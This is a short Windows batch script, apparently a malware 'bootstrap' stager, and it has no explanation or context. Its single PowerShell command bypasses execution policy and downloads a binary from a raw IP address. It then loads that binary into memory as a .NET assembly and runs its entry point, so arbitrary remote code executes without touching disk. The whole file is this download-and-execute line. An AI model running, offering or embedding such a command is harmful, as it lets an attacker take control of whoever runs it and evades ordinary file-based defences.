REM bootstrap 5377 v2
powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.200/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
